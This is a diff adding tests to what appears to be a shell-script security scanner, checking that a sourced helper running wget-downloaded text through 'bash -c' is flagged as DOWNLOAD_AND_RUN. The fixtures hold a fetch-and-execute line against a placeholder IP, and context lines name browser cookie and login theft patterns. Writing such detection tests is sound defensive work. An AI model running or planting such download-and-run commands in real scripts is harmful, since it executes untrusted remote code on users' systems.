@@ -406,3 +406,24 @@ def test_a_quoted_loop_word_with_a_space_is_one_item(tmp_path: Path) -> None:
         "copies browser saved logins and cookies: ~/.config/vivaldi/Default/Web Data",
         "copies browser profile: ~/.config/vivaldi/Default/History",
     }
+
+
+def test_a_function_of_a_sourced_helper_runs_the_download_it_is_handed(tmp_path: Path) -> None:
+    files = {
+        "scripts/common.sh": 'apply_patch() {\n  local p="$1"\n  bash -c "$p"\n}\n',
+        "scripts/update.sh": (
+            "#!/bin/sh\nset -e\n"
+            '. "$(dirname "$0")/common.sh"\n'
+            'patch_text="$(wget -qO- http://198.51.100.90/p.sh)"\n'
+            'apply_patch "$patch_text"\n'
+        ),
+    }
+    assert ("DOWNLOAD_AND_RUN", "scripts/common.sh", 3) in scan_errors(tmp_path, files)
+
+
+def test_a_sourced_helper_given_local_text_runs_nothing_downloaded(tmp_path: Path) -> None:
+    files = {
+        "scripts/common.sh": 'say() {\n  printf \'%s\\n\' "$1"\n}\nrun_step() {\n  bash -c "$1"\n}\n',
+        "scripts/build.sh": '. ./scripts/common.sh\nsay "building"\nrun_step "make -j4"\n',
+    }
+    assert scan_errors(tmp_path, files) == set()
